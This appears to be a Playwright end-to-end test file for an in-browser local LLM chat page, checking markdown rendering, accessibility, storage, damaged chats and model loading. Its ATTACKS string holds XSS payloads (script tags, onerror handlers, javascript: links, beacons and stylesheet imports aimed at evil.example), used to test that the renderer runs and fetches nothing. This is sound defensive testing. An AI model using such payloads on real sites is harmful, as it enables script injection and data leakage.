"""The page as users see it: in Chromium with a software GPU, and in WebKit where Playwright has it."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, FilePayload, Page, Route, expect

from devtools.page_server import PageServer
from tests import chat_formats
from tests.waiting import wait_until
from tests_e2e.conftest import GOLDENS, WEBGPU_FLAGS, Visited, launch_chromium
from tests_e2e.pictures import png
from tests_e2e.visit import (
    ENGINE_MS,
    LEFT_IN_LOCAL_STORAGE,
    MODEL,
    ORGANISATION,
    OTHER,
    READY,
    ROOMY,
    UI_MS,
    Visit,
    ask,
    chat,
    choose,
    finished,
    kept_chats,
    kept_messages,
    load,
    offer,
)

# Stopping waits for nothing, while a whole answer takes longer than this on a software GPU.
STOP_MS = 5000
expect.set_options(timeout=UI_MS)

# Contents that must never run or be fetched. `hit` counts what ran.
ATTACKS = r"""
<script>hit()</script>
<img src="https://evil.example/a.png" onerror="hit()">
<svg onload="hit()"><iframe src="javascript:hit()"></iframe>
![pixel](https://evil.example/pixel.png?secret=1)
![x](javascript:hit())  [run](javascript:hit()) [data](data:text/html,<script>hit()</script>)
[vb](vbscript:hit) [tab](java	script:hit()) [amp](javascript&colon;hit())
[break](https://evil.example/" onclick="hit()) [ok](https://good.example/path_(x)?a=1&b=2)
<a href="javascript:hit()">a</a> <javascript:hit()> <https://good.example/auto>
`<script>hit()</script>` **<b onclick=hit()>bold</b>** &lt;script&gt;

| <img src=x onerror=hit()> | b |
|---|---|
| ![t](https://evil.example/t.png) | <script>hit()</script> |

```html"><script>hit()</script>
<script>hit()</script>
```
> - # <style>body{display:none}</style>
<style>@import "https://evil.example/s.css";</style>
<link rel=stylesheet href=https://evil.example/l.css><base href=https://evil.example/>
<form action=https://evil.example><button>go</button></form><meta http-equiv=refresh content="0;url=https://evil.example">
"""
FORBIDDEN = (
    "script, img, iframe, style, link, svg:not(.icon svg), object, embed, form, base, meta, video"
)

SAMPLE = """# Title

A *word*, a **strong one**, `code`, ~~gone~~ and ***both***; snake_case_name, 2 * 3 * 4.
Second line with https://good.example/a_b. [named](https://good.example "t")
Formulas $a_i * b_i$, \\(x\\,_1\\) and $$\\frac{1}{2}$$, not $5 and $10, $5-$10 or \\$.

- one
- two
  - inner *x*
- [x] done

3. three
4. four

   with a paragraph

> quoted
> twice

| a | b |
|:--|--:|
| 1 | `2\\|3` |

```python
def f(x):
    return x  # ** not bold **
```
---
Unfinished **bold and `code
"""
SAMPLE_HTML = (
    "<h1>Title</h1><p>A <em>word</em>, a <strong>strong one</strong>, <code>code</code>, "
    "<del>gone</del> and <strong><em>both</em></strong>; snake_case_name, 2 * 3 * 4.<br>"
    'Second line with <a href="https://good.example/a_b">https://good.example/a_b</a>. '
    '<a href="https://good.example/">named</a><br>'
    r"Formulas <code>a_i * b_i</code>, <code>x\,_1</code> and <code>\frac{1}{2}</code>, "
    "not $5 and $10, $5-$10 or $.</p>"
    "<ul><li>one</li><li>two<ul><li>inner <em>x</em></li></ul></li><li>☑ done</li></ul>"
    '<ol start="3"><li><p>three</p></li><li><p>four</p><p>with a paragraph</p></li></ol>'
    "<blockquote><p>quoted<br>twice</p></blockquote>"
    "<table><thead><tr><th>a</th><th>b</th></tr></thead>"
    "<tbody><tr><td>1</td><td><code>2|3</code></td></tr></tbody></table>"
    "<pre>python|def f(x):\n    return x  # ** not bold **</pre>"
    "<hr><p>Unfinished **bold and `code</p>"
)
# A short form of the DOM: only the attributes href and start, without the frames of tables and code.
PLAIN = r"""root => {
  const plain = node => {
    if (node.nodeType === Node.TEXT_NODE) return node.data;
    if (node.className === 'code')
      return `<pre>${node.querySelector('span').textContent}|${node.querySelector('code').textContent}</pre>`;
    const inner = [...node.childNodes].map(plain).join('');
    const tag = node.localName;
    if (tag === 'div') return inner;
    if (tag === 'br' || tag === 'hr') return `<${tag}>`;
    const attribute = tag === 'a' ? ` href="${node.href}"` : tag === 'ol' ? ` start="${node.start}"` : '';
    return `<${tag}${attribute}>${inner}</${tag}>`;
  };
  return plain(root);
}"""

# A page with the app's renderer in MicroPython. It renders the text whole and one character at a time.
RENDERER_PAGE = """<!doctype html><meta charset="utf-8"><link rel="icon" href="data:,">
<link rel="stylesheet" href="vendor/pyscript/core.css">
<script type="module" src="vendor/pyscript/core.js"></script>
<template id="t-code"><div class="code"><span></span><pre><code></code></pre></div></template>
<p id="announce"></p><div id="whole"></div><div id="pieces"></div>
<script type="mpy" src="renderer.py" config="renderer.json"></script>"""
RENDERER = f"""
import time
from js import document, window
from app.markdown import Markdown

FORBIDDEN = {FORBIDDEN!r}

def render(text):
    whole, pieces = document.getElementById("whole"), document.getElementById("pieces")
    whole.replaceChildren()
    pieces.replaceChildren()
    markdown = Markdown(whole)
    markdown.feed(text)
    markdown.render(True)
    markdown = Markdown(pieces)
    for character in text:
        markdown.feed(character)
        markdown.render()
        if pieces.querySelector(FORBIDDEN) is not None:
            return "forbidden"
    markdown.feed("")
    markdown.render(True)
    return "same" if whole.innerHTML == pieces.innerHTML else pieces.innerHTML

def render_once(text):
    whole = document.getElementById("whole")
    whole.replaceChildren()
    began = time.ticks_ms()
    markdown = Markdown(whole)
    markdown.feed(text)
    markdown.render(True)
    return time.ticks_diff(time.ticks_ms(), began)

window.render_once = render_once
window.render = render
"""
RENDERER_CONFIG = {
    "interpreter": "vendor/mpy/micropython.mjs",
    "files": {f"app/{name}.py": f"app/{name}.py" for name in ("markdown", "inline")},
    "js_modules": {"main": {"nodes.mjs": "nodes"}},
}


# ---- without the engine


def test_usable_before_the_engine_boots_and_nothing_loads_unasked(visit: Visit) -> None:
    page = visit.open()
    expect(page.locator(".choice")).to_have_count(2)
    expect(page.locator(".choice").first).to_contain_text("5 MB")
    expect(page.locator(".choice .fit").first).not_to_be_empty()
    page.fill("#prompt", "hello")
    expect(page.locator("#send")).to_be_enabled()
    page.click("[data-do=open-settings]")
    expect(page.locator("#settings")).to_be_visible()
    assert not [path for path in visit.asked if path.startswith("models/")]
    assert page.locator("body").get_attribute("data-model") == "none"


def test_hostile_answers_run_nothing_and_fetch_nothing(visit: Visit) -> None:
    visit.keep(chat("attack", ATTACKS, ATTACKS))
    page = visit.open()
    page.click("#chats .open")
    answer = page.locator(".answer .text")
    expect(answer).to_contain_text("<script>hit()</script>")
    expect(answer).to_contain_text('<img src="https://evil.example/a.png" onerror="hit()">')
    expect(page.locator(".user .bubble")).to_contain_text("<script>hit()</script>")
    before = len(visit.asked)
    page.wait_for_timeout(300)
    assert page.evaluate("hits") == 0
    assert answer.locator(FORBIDDEN).count() == 0
    links = answer.locator("a").evaluate_all("all => all.map(a => [a.protocol, a.rel])")
    assert {"https:"} == {protocol for protocol, _ in links}
    assert all("noopener" in rel for _, rel in links)
    assert not [p for p in visit.asked[before:] if "evil" in p or "good" in p]
    handlers = "all => all.flatMap(n => n.getAttributeNames()).filter(n => n.startsWith('on'))"
    assert answer.locator("*").evaluate_all(handlers) == []


def test_markdown_is_the_same_whole_and_in_pieces(visit: Visit) -> None:
    parts = {
        "renderer.html": (RENDERER_PAGE, "text/html"),
        "renderer.py": (RENDERER, "text/x-python"),
        "renderer.json": (json.dumps(RENDERER_CONFIG), "application/json"),
    }

    def serve(route: Route) -> None:
        body, kind = parts[route.request.url.rpartition("/")[2]]
        route.fulfill(body=body, content_type=kind)

    visit.context.route("**/renderer.*", serve)
    page = visit.page
    page.goto(visit.site.url + "renderer.html")
    page.wait_for_function("'render' in window", timeout=UI_MS)
    assert page.evaluate("text => render(text)", SAMPLE) == "same"
    assert page.locator("#whole").evaluate(PLAIN) == SAMPLE_HTML
    assert page.evaluate("text => render(text)", ATTACKS) == "same"
    assert page.evaluate("hits") == 0
    # Deep nesting, and openers that nothing closes, neither raise nor take long.
    deep = ">" * 3000 + " a\n\n" + "- " * 500 + "b\n\n" + "[" * 2000 + "\n\n" + "*a " * 1500
    assert page.evaluate("text => render_once(text)", deep) < 5000
    assert page.locator("#whole").inner_text().count(">") > 2900


COMPOSED = """() => document.getElementById('prompt').dispatchEvent(
  new KeyboardEvent('keydown', {key: 'Enter', keyCode: 229, bubbles: true, cancelable: true}))"""


def test_keyboard_alone(visit: Visit) -> None:
    visit.keep(chat("a", "first", "yes") | chat("b", "second", "yes"))
    page = visit.open()
    page.keyboard.press("Tab")
    expect(page.locator(".skip")).to_be_focused()
    page.keyboard.press("Enter")
    page.wait_for_function("document.activeElement.id === 'prompt' || location.hash === '#prompt'")
    page.focus("#prompt")
    page.keyboard.type("one")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("two")
    assert page.input_value("#prompt") == "one\ntwo"
    assert page.evaluate(COMPOSED), "Safari's Enter that ends a composition is the input method's"
    expect(page.locator("#models")).to_be_hidden()
    page.keyboard.press("Enter")  # no model is loaded: the page asks for one, and keeps the text
    expect(page.locator("#models")).to_be_visible()
    expect(page.locator("#dialog-picker .choice")).to_have_count(2)
    page.keyboard.press("Escape")
    expect(page.locator("#models")).to_be_hidden()
    assert page.input_value("#prompt") == "one\ntwo"
    expect(page.locator("#hero-picker .choice")).to_have_count(2)
    # In the list of chats another tab's change does not move the focus. A deletion moves it only to the row that takes
    # the deleted row's place.
    bins = page.locator("#chats [data-do=delete-chat]")
    bins.last.focus()
    page.evaluate("window.dispatchEvent(new StorageEvent('storage'))")
    expect(bins.last).to_be_focused()
    visit.keep(chat("c", "third", "yes", updated="2026-11-23T00:00:00.000Z"))
    expect(bins).to_have_count(3)
    expect(bins.last).to_be_focused()
    for left in (2, 1):
        page.keyboard.press("Enter")
        page.locator("#confirm [value=yes]").press("Enter")
        expect(bins).to_have_count(left)
        expect(bins.last).to_be_focused()
    page.keyboard.press("Enter")
    page.locator("#confirm [value=yes]").press("Enter")
    expect(page.locator("#sidebar .new")).to_be_focused()


def test_everything_that_can_be_used_has_a_name(visit: Visit) -> None:
    visit.keep(chat("one", "a question", "```py\nx\n```\nan answer"))
    page = visit.open()
    page.click("#chats .open")
    nameless = """() => [...document.querySelectorAll(
      'button, input, select, textarea, summary, a, dialog, progress')].filter(n => !n.textContent.trim() &&
      !n.getAttribute('aria-label') && !n.getAttribute('aria-labelledby') && !n.labels?.length &&
      n.type !== 'file').map(n => n.outerHTML)"""
    assert page.evaluate(nameless) == []
    assert page.locator("#announce").get_attribute("aria-live") == "polite"
    assert page.locator("html").get_attribute("lang") == "en"


def test_settings_are_kept_and_wrong_ones_are_not(visit: Visit) -> None:
    page = visit.open()
    page.click("[data-do=open-settings]")
    page.fill("[name=system]", "Be brief. \U0001f400")
    page.fill("[name=temperature]", "0.7")
    page.fill("[name=top_p]", "7")
    page.fill("[name=seed]", "4294967295")
    page.select_option("[name=thinking]", "off")
    page.keyboard.press("Escape")
    page = visit.open()
    page.click("[data-do=open-settings]")
    assert page.input_value("[name=system]") == "Be brief. \U0001f400"
    assert page.input_value("[name=temperature]") == "0.7"
    assert page.input_value("[name=top_p]") == ""
    assert page.input_value("[name=seed]") == "4294967295"
    assert page.input_value("[name=thinking]") == "off"
    page.click("[data-do=reset-settings]")
    assert page.input_value("[name=temperature]") == ""
    assert page.input_value("[name=thinking]") == "auto"
    assert page.evaluate("localStorage.getItem('jerboa.settings')") is None


def test_chats_are_listed_exported_and_deleted(visit: Visit) -> None:
    visit.keep(chat("old", "first one", "An *answer* \U0001f400", updated="2026-01-01T00:00:00Z"))
    visit.keep(chat("new", "second one", "<think>hm</think>\n\nYes."))
    page = visit.open()
    assert page.locator("#chats .open").all_inner_texts() == ["second one", "first one"]
    page.click("#chats .open >> nth=0")
    expect(page.locator(".answer .text")).to_have_text("Yes.")
    expect(page.locator(".answer .thinking")).to_contain_text("hm")
    page.click("#chats .open >> nth=1")
    expect(page.locator(".answer em")).to_have_text("answer")

    page.click("#chat-menu summary")
    with page.expect_download() as made:
        page.click("[data-do=export-markdown]")
    assert made.value.suggested_filename == "first-one.md"
    text = Path(made.value.path()).read_text(encoding="utf-8")
    assert "## You\n\nfirst one" in text and "An *answer* \U0001f400" in text
    page.click("#chat-menu summary")
    with page.expect_download() as made:
        page.click("[data-do=export-json]")
    kept = json.loads(Path(made.value.path()).read_text(encoding="utf-8"))
    assert [m["role"] for m in kept["messages"]] == ["user", "assistant"]

    page.click("#chat-menu summary")
    page.click("#chat-menu [data-do=delete-chat]")
    page.click("#confirm [value=no]")
    assert page.locator("#chats li").count() == 2
    page.click("#chat-menu summary")
    page.click("#chat-menu [data-do=delete-chat]")
    page.click("#confirm [value=yes]")
    expect(page.locator("#chats li")).to_have_count(1)
    expect(page.locator("#hero")).to_be_visible()
    page.click("[data-do=open-settings]")
    with page.expect_download() as made:
        page.click("[data-do=export-all]")
    assert len(json.loads(Path(made.value.path()).read_text(encoding="utf-8"))["chats"]) == 1
    page.click("[data-do=delete-all]")
    page.click("#confirm [value=yes]")
    expect(page.locator("#chats li")).to_have_count(0)
    assert page.evaluate(LEFT_IN_LOCAL_STORAGE) == [] == kept_chats(page)


def test_thinking_is_folded_and_tool_calls_can_be_read(visit: Visit) -> None:
    """Chats as the page stores them now, and a chat of an older page, where thinking is in the text."""
    visit.keep(chat("old", "older", "<think>\nhm, *so*\n</think>\n\nYes."))
    kept = chat("new", "newer", "I look it up.")
    body = json.loads(kept["jerboa.chat.new"])
    given = {"city": "Zürich", "days": 3, "units": ["C", "mm"], "note": "<b>a</b>\nb"}
    call = {"id": "call_1", "type": "function", "function": {"name": "weather"}}
    call["function"]["arguments"] = json.dumps(given, ensure_ascii=False)  # type: ignore[index]
    stats = {"tps": 40.0, "ttft_s": 0.2, "tokens": 30, "finish": "tool_calls"}
    body["messages"][1] |= {"reasoning": "They ask.\n\nI *must* look.", "thought_s": 2.6}
    body["messages"][1] |= {"tool_calls": [call], "stats": stats, "model": "Tiny"}
    visit.keep({**kept, "jerboa.chat.new": json.dumps(body)})
    kept = chat("tag", "about", "It ends with </think>, then")
    body = json.loads(kept["jerboa.chat.tag"])
    body["messages"][1]["reasoning"] = ""
    visit.keep({**kept, "jerboa.chat.tag": json.dumps(body)})
    page = visit.open()

    page.click("#chats .open:has-text('newer')")
    fold = page.locator(".answer .thinking")
    expect(fold.locator("summary")).to_have_text("Thought for 3 s")
    expect(fold.locator("div")).to_be_hidden()
    fold.locator("summary").focus()
    page.keyboard.press("Enter")
    expect(fold.locator("div")).to_have_text("They ask.\n\nI *must* look.")
    expect(page.locator(".answer .text")).to_have_text("I look it up.")
    block = page.get_by_role("region", name="Tool call")
    expect(block.locator("strong")).to_have_text("weather")
    assert block.locator("dt").all_inner_texts() == list(given)
    assert block.locator("dd").all_inner_texts() == ["Zürich", "3", '["C","mm"]', "<b>a</b>\nb"]
    expect(page.locator(".answer .stats")).to_contain_text("asks for a tool")
    page.click("#chat-menu summary")
    with page.expect_download() as made:
        page.click("[data-do=export-markdown]")
    text = Path(made.value.path()).read_text(encoding="utf-8")
    assert "> They ask.\n> \n> I *must* look.\n\nI look it up." in text
    assert '{"name": "weather", "arguments": {"city": "Zürich"' in text

    page.click("#chats .open:has-text('older')")
    expect(page.locator(".answer .thinking summary")).to_have_text("Thought")
    expect(page.locator(".answer .thinking div")).to_have_text("hm, *so*")
    expect(page.locator(".answer .text")).to_have_text("Yes.")
    page.click("#chat-menu summary")
    with page.expect_download() as made:
        page.click("[data-do=export-json]")
    kept_now = json.loads(Path(made.value.path()).read_text(encoding="utf-8"))["messages"][1]
    assert (kept_now["reasoning"], kept_now["content"]) == ("hm, *so*", "Yes.")

    page.click("#chats .open:has-text('about')")  # from this page, so the mark is text
    expect(page.locator(".answer .text")).to_have_text("It ends with </think>, then")
    expect(page.locator(".answer .thinking")).to_be_hidden()


def test_a_full_store_is_said_and_the_page_goes_on(visit: Visit) -> None:
    page = visit.open()
    page.evaluate("""() => {
      let text = 'x'.repeat(1 << 20);
      for (let i = 0; text; i++) {
        try { localStorage.setItem('fill' + i, text); } catch { text = text.slice(1 + text.length / 2); }
      }
    }""")
    page.click("[data-do=open-settings]")
    page.fill("[name=system]", "y" * 2000)
    page.keyboard.press("Tab")
    page.keyboard.press("Escape")
    expect(page.locator("#notice")).to_contain_text("full")
    page.click("#notice [data-do=dismiss]")
    expect(page.locator("#notice")).to_be_hidden()


BROKEN = {  # chat bodies; each holds the word "kept" somewhere
    "cut": '{"id": "cut", "messages": [{"role": "user", "content": "kept',
    "list": '["kept", 3, null]',
    "deep": "[" * 5000 + '"kept"' + "]" * 5000,
    "number": '{"messages": [{"role": 1e999, "content": 5, "reasoning": "kept"}]}',
    "content": '{"messages": [{"role": "assistant", "content": [{"type": "text", "text": "kept"}]}]}',
    "calls": """{"messages": [{"role": "assistant", "content": "kept", "tool_calls": [3, {"function": {}},
      {"function": {"name": "f", "arguments": "{broken"}}, {"function": {"name": "g", "arguments": "{}"}}]}]}""",
    "fields": """{"version": 9, "messages": [{"role": "assistant", "content": "kept", "stats": {"tps": "fast",
      "tokens": 7}, "thought_s": [], "reasoning": {}, "forgot": "all", "error": "why", "model": 1, "new": [1]}]}""",
    "huge": '{"messages": [{"role": "assistant", "content": "kept ' + "*" * 400_000 + '"}]}',
    "half": r'{"messages": [{"role": "assistant", "content": "kept \ud83d \ud83d\udc00 \u0000."}]}',
}
DAMAGED_STATE = {
    "jerboa.title.cut": '{"title": ["a"], "updated": 3}',
    "jerboa.title.list": "{",
    "jerboa.settings": '{"temperature": "hot", "context": [], "system": 3, "top_k": 1e999, "seed": 7}',
    "jerboa.ended-runs": '{"a": 1}',
    "jerboa.proven-groups": '{"key": {"group": "many"}}',
    "jerboa.model": "{}",
}


def test_damaged_chats_draw_what_they_can_and_lose_nothing(visit: Visit) -> None:
    visit.keep({f"jerboa.chat.{name}": body for name, body in BROKEN.items()})
    visit.keep(DAMAGED_STATE)
    page = visit.open()
    assert page.evaluate("document.body.dataset.engine") == "booting", "the rest works"
    expect(page.locator("#chats li")).to_have_count(len(BROKEN))
    for name in BROKEN:
        page.click(f"#chats li[data-id={name}] .open")
        expect(page.locator("#messages")).to_contain_text("kept")
    assert not page.evaluate(LEFT_IN_LOCAL_STORAGE)
    kept = {chat["id"]: chat for chat in kept_chats(page)}
    for name in ("list", "number", "content", "calls", "fields"):
        assert kept[name]["original"] == BROKEN[name]
    for name in ("cut", "deep"):
        assert kept[name]["messages"][0]["content"] == BROKEN[name]
    assert page.locator(".answer .text").inner_text().startswith("kept \ufffd \U0001f400")
    page.click("#chats li[data-id=calls] .open")
    expect(page.locator(".call strong")).to_have_text(["g"])
    page.click("#chats li[data-id=fields] .open")
    expect(page.locator(".answer .stats")).to_have_text(
        "7 tokens \u00b7 a part that cannot be read is kept"
    )
    page.click("#chat-menu summary")
    with page.expect_download() as made:
        page.click("[data-do=export-json]")
    saved = json.loads(Path(made.value.path()).read_text(encoding="utf-8"))
    (message,) = saved["messages"]
    assert (saved["version"], message["new"]) == (9, [1])
    aside = {
        "stats": {"tps": "fast"},
        "thought_s": [],
        "reasoning": {},
        "forgot": "all",
        "error": "why",
        "model": 1,
    }
    assert message["damaged"] == aside
    page.click("#chat-menu summary")
    with page.expect_download() as made:
        page.click("[data-do=export-markdown]")
    page.click("[data-do=open-settings]")
    assert [
        page.input_value(f"[name={n}]") for n in ("temperature", "context", "system", "seed")
    ] == ["", "", "", "7"]


def test_phone_layout_and_drawer(browser: Browser, site: PageServer) -> None:
    offer(site)
    visit = Visit(browser, site, viewport={"width": 390, "height": 844})
    visit.keep(
        chat("one", "a question " * 9, "word " * 300 + "\n\n```\n" + "long line " * 60 + "\n```")
    )
    held: list[Route] = []
    visit.context.route("**/app/main.py", lambda route: held.append(route))
    page = visit.page
    page.goto(site.url, wait_until="domcontentloaded")
    expect(page.locator("#sidebar")).to_be_hidden()
    expect(page.locator("#send")).to_be_disabled()
    page.click("#open-sidebar")  # the page's Python gets this click as soon as it runs
    visit.context.unroute("**/app/main.py")
    for route in held:
        route.continue_()
    page.wait_for_selector(READY, timeout=UI_MS)
    expect(page.locator(".new")).to_be_focused()
    page.keyboard.press("Escape")
    expect(page.locator("#sidebar")).to_be_hidden()
    expect(page.locator("#open-sidebar")).to_be_focused()
    page.click("#open-sidebar")
    page.click("#chats .open")
    expect(page.locator(".answer pre")).to_be_attached()
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    assert page.locator("#scroll").evaluate("n => n.scrollWidth - n.clientWidth") <= 0
    visit.close()


def test_the_addresss_parameters_reach_the_engine(visit: Visit) -> None:
    """A worker that repeats what it gets replaces the engine, because only the page's messages matter."""
    visit.context.unroute("**/worker.mjs")
    repeat = """postMessage({status: 'booted', runtime: self.name, boot_ms: 1, snapshot: false});
      onmessage = ({data}) => postMessage({status: 'log', message: JSON.stringify(data)});"""
    visit.context.route(
        "**/worker.mjs", lambda route: route.fulfill(body=repeat, content_type="text/javascript")
    )
    heard: list[str] = []
    visit.page.on("console", lambda message: heard.append(message.text))
    page = visit.open("?context=640&dtype=f16&group=7&passes=2&runtime=py27")
    page.wait_for_selector("body[data-engine=ready]", timeout=UI_MS)
    page.click("[data-do=open-settings]")
    page.keyboard.press("Escape")
    page.click("#hero-picker button[type=submit]")
    page.wait_for_selector("body[data-model=loading]", timeout=UI_MS)
    wait_until(
        "the page's load", lambda: any('"load"' in text for text in heard), lambda: page.wait_for_timeout(50),
        told=lambda: heard,
    )  # fmt: skip
    assert any("py27" in text for text in heard)
    assert sum('"cache_list"' in text for text in heard) == 1, "it was not answered yet"
    (sent,) = (json.loads(text.removeprefix("engine: ")) for text in heard if '"load"' in text)
    assert sent["repo"] == f"{ORGANISATION}/{MODEL}"
    assert sent["options"] == {"dtype": "f16", "context": 640, "group": 7, "passes": 2}


def test_either_the_card_or_the_name_that_came_last_is_loaded(visit: Visit) -> None:
    """Typing a name deselects the card. Choosing a card afterwards deselects the name."""
    page = visit.open()
    page.click("#hero-picker .other summary")
    hub = page.locator("#hero-picker [name=hub]")
    first, second = page.locator("#hero-picker .choice input").all()
    title = page.locator("#load-title")
    press = page.locator("#hero-picker button[type=submit]").click

    def cancel() -> None:
        page.click("[data-do=cancel-load]")
        expect(page.locator("#load")).to_be_hidden()

    hub.fill("some/name")
    expect(first).not_to_be_checked()
    press()
    expect(title).to_have_text("Loading name")
    cancel()
    second.check()
    press()
    expect(title).to_have_text(f"Loading Tiny {OTHER}")
    cancel()
    hub.fill("other/name2")
    first.focus()
    page.keyboard.press("Space")  # by keyboard, the card that was chosen before
    expect(first).to_be_checked()
    press()
    expect(title).to_have_text(f"Loading Tiny {MODEL}")
    cancel()
    hub.fill("https://huggingface.co/some/name3/tree/main")
    hub.press("Enter")
    expect(title).to_have_text("Loading name3")
    cancel()
    hub.fill("")
    expect(page.locator("#hero-picker .choice :checked")).to_have_count(1)


def test_dark_and_light(visit: Visit) -> None:
    page = visit.open()
    ground = "getComputedStyle(document.body).backgroundColor"
    shades = []
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        shades.append(sum(map(int, re.findall(r"\d+", page.evaluate(ground))[:3])))
    assert shades[0] > 3 * 200 and shades[1] < 3 * 60


# The worker's message about a folder's files.
PATHS = """const post = Worker.prototype.postMessage;
  Worker.prototype.postMessage = function (message, ...more) {
    if (message?.type === 'files') window.paths = [...message.paths].sort();
    return post.call(this, message, ...more);
  };"""
TAKEN = ["1_Pooling/config.json", "config.json", "model.safetensors", "tokenizer.json"]


def folder_with_folders(folder: Path) -> None:
    for name in (*TAKEN, ".git/config.json", "1_Pooling/.hidden.json", "notes.md"):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text("{}")


def test_a_dropped_folder_is_taken_and_the_screen_kept_on(visit: Visit, tmp_path: Path) -> None:
    if visit.context.browser and visit.context.browser.browser_type.name != "chromium":
        pytest.skip("only Chromium's debugger can drop files")
    count = """window.locks = {held: 0, asked: 0}; const real = WakeLock.prototype.request;
      WakeLock.prototype.request = async function (...kind) {
        const lock = await real.apply(this, kind);
        locks.asked += 1; locks.held += 1;
        lock.addEventListener('release', () => { locks.held -= 1; });
        return lock;
      };"""
    visit.page.add_init_script(count)
    visit.page.add_init_script(PATHS)
    page = visit.open()
    page.wait_for_selector("body[data-engine=booting]", timeout=UI_MS)
    folder_with_folders(tmp_path / "dropped")
    debugger = visit.context.new_cdp_session(page)
    data = {"items": [], "files": [str(tmp_path / "dropped")], "dragOperationsMask": 1}
    for kind in ("dragEnter", "dragOver"):
        event = {"type": kind, "x": 400, "y": 300, "data": data}
        debugger.send("Input.dispatchDragEvent", event)
    expect(page.locator("#drop")).to_be_visible()
    debugger.send("Input.dispatchDragEvent", {"type": "drop", "x": 400, "y": 300, "data": data})
    expect(page.locator("#drop")).to_be_hidden()
    expect(page.locator("#load-title")).to_have_text("Loading dropped")
    page.wait_for_function("locks.asked === 1 && locks.held === 1", timeout=UI_MS)
    page.click("[data-do=cancel-load]")
    expect(page.locator("#load")).to_be_hidden()
    page.wait_for_function("locks.held === 0", timeout=UI_MS)
    assert page.evaluate("paths") == TAKEN


def test_a_picked_folder_is_taken_with_the_folders_inside_it(visit: Visit, tmp_path: Path) -> None:
    visit.page.add_init_script(PATHS)
    page = visit.open()
    page.wait_for_selector("body[data-engine=booting]", timeout=UI_MS)
    folder_with_folders(tmp_path / "picked")
    page.set_input_files("input[webkitdirectory]", tmp_path / "picked")
    expect(page.locator("#load-title")).to_have_text("Loading picked")
    page.wait_for_function("window.paths", timeout=UI_MS)
    assert page.evaluate("paths") == TAKEN


@pytest.mark.parametrize("missing", ["adapter", "api"])
def test_without_webgpu_the_page_explains_itself(
    blind_chromium: Browser, site: PageServer, missing: str
) -> None:
    offer(site)
    visit = Visit(blind_chromium, site, hold=False)
    visit.keep(chat("kept", "an old question", "an old **answer**"))
    if missing == "api":
        visit.page.add_init_script("delete Navigator.prototype.gpu")
    page = visit.open()
    card = page.locator("#hero-picker .problem")
    title = "No GPU answered" if missing == "adapter" else "This browser has no WebGPU"
    expect(card).to_contain_text(title, timeout=UI_MS)
    expect(card).to_have_attribute("role", "alert")
    page.click("#chats .open")
    expect(page.locator(".answer strong")).to_have_text("answer")
    page.fill("#prompt", "hello?")
    expect(page.locator("#send")).to_be_disabled()
    page.click("#model")
    expect(page.locator("#notice")).to_contain_text(title)
    assert "worker.mjs" not in visit.asked
    visit.close()


def test_an_address_that_is_not_secure_says_so_and_the_rest_works(
    playwright: Any, site: PageServer
) -> None:
    """At such an address browsers offer no WebGPU, no persistent storage and no service workers."""
    offer(site)
    browser = launch_chromium(
        playwright, [*WEBGPU_FLAGS, "--host-resolver-rules=MAP insecure.test 127.0.0.1"]
    )
    page = browser.new_page()
    errors: list[str] = []
    page.on("console", lambda m: errors.append(m.text) if "Traceback" in m.text else None)
    page.goto(site.url.replace("localhost", "insecure.test"))
    card = page.locator("#hero-picker .problem")
    expect(card).to_contain_text("This address is not secure", timeout=UI_MS)
    status = page.evaluate("import('./device_storage.mjs').then(h => h.getStorageStatus())")
    assert status["quotaMB"] is None and status["persisted"] is False
    page.click("[data-do=open-settings]")
    expect(page.locator("#settings")).to_be_visible()
    told = re.compile("^This browser keeps nothing for this page")
    expect(page.locator("#stored-note")).to_have_text(told, timeout=ENGINE_MS)
    browser.close()
    assert not errors


# ---- with the engine and a tiny model of random weights


@pytest.fixture(scope="module")
def engine_page(visited: Visited, site: PageServer) -> Iterator[Page]:
    """A page with the tiny model loaded. It draws no frames, as in a hidden tab."""
    offer(site)
    page = visited.context.new_page()
    page.add_init_script("window.requestAnimationFrame = () => 0;")
    page.goto(site.url + "?context=512")
    page.wait_for_selector("body[data-ui=ready]", timeout=UI_MS)
    page.wait_for_function("document.body.dataset.engine", timeout=ENGINE_MS)
    if page.locator("body").get_attribute("data-engine") == "none":
        page.close()
        pytest.skip("this browser has no WebGPU")
    page.evaluate("""localStorage.setItem('jerboa.settings',
      JSON.stringify({temperature: 0, max_tokens: 24}))""")
    page.reload()
    page.wait_for_selector(".choice", timeout=UI_MS)
    page.wait_for_selector("body[data-engine=ready]", timeout=ENGINE_MS)
    yield page
    page.close()


@pytest.fixture
def new_chat(engine_page: Page) -> Page:
    """An empty chat in the page with the engine, with MODEL loaded."""
    if engine_page.locator("#model-name").inner_text() != f"Tiny {MODEL}":
        load(engine_page)
    engine_page.click(".new")
    expect(engine_page.locator("#hero")).to_be_visible()
    return engine_page


def test_a_model_answers_and_the_chat_is_kept(new_chat: Page) -> None:
    ask(new_chat, "hello")
    stats = new_chat.locator(".answer .stats")
    expect(stats).to_contain_text(re.compile(r"first token .* s"))
    expect(stats).to_contain_text(re.compile(r"\d+ tokens?"))
    expect(new_chat.locator("#context")).to_contain_text(re.compile(r"Context \d+ of 512"))
    messages = kept_messages(new_chat)
    assert messages[0] == {"role": "user", "content": "hello"}
    assert messages[1]["stats"]["finish"] in ("stop", "length")
    assert messages[1]["stats"]["tokens"] <= 24
    assert new_chat.locator("#chats .open").first.inner_text() == "hello"
    ask(new_chat, "and again")
    assert len(kept_messages(new_chat)) == 4
    new_chat.click("[data-do=open-settings]")
    used = new_chat.locator("#stored li:has(.used)")
    expect(used).to_contain_text(re.compile(f"{ORGANISATION}/{MODEL}\\s*in use"))
    used.locator("button").click()
    expect(new_chat.locator("#confirm")).to_contain_text("It is in use and goes on answering.")
    new_chat.click("#confirm [value=no]")
    new_chat.keyboard.press("Escape")
    expect(new_chat.locator("#settings")).to_be_hidden()


def test_a_text_model_sees_no_picture_and_says_so_before_it_is_sent(new_chat: Page) -> None:
    new_chat.fill("#prompt", "What is this?")
    new_chat.click("#attach summary")
    with new_chat.expect_file_chooser() as chooser:
        new_chat.click("[data-do=pick-pictures]")
    chooser.value.set_files(FilePayload(name="red.png", mimeType="image/png", buffer=png(4, 4)))
